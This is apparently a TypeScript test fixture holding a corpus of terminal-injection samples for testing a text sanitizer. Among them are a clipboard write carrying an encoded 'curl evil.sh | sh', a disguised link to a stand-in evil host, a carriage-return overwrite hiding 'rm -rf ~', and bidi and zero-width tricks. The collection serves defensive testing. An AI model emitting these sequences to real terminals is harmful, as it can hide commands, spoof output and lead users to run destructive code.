/** A corpus of terminal attacks, shared by the unit and end-to-end tests of safe text. */

/** Hostile sequences a model, a command's output or a file can carry. */
export const HOSTILE = [
  "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07", // OSC 52: write the clipboard
  "\x1b]0;innocent title\x07", // window title
  "\x1b[2J\x1b[H", // clear screen, cursor home
  "\x1b[1A\x1b[2K", // cursor up, erase line: rewrites what was printed
  "\x1b]8;;https://evil.example/\x1b\\safe link\x1b]8;;\x1b\\", // hyperlink with other text
  "\x1bP+q544e\x1b\\", // DCS request
  "\x9b2J", // 8-bit CSI
  "\x9d0;title\x9c", // 8-bit OSC
  "echo safe\rrm -rf ~", // carriage return overwrite
  "ls\x08\x08\x08rm", // backspaces
  "a\u202eexe.txt", // right-to-left override
  "if (a \u2066&& b\u2069)", // isolates
  "zero\u200bwidth", // invisible
  "\x00\x05\x7f",
];
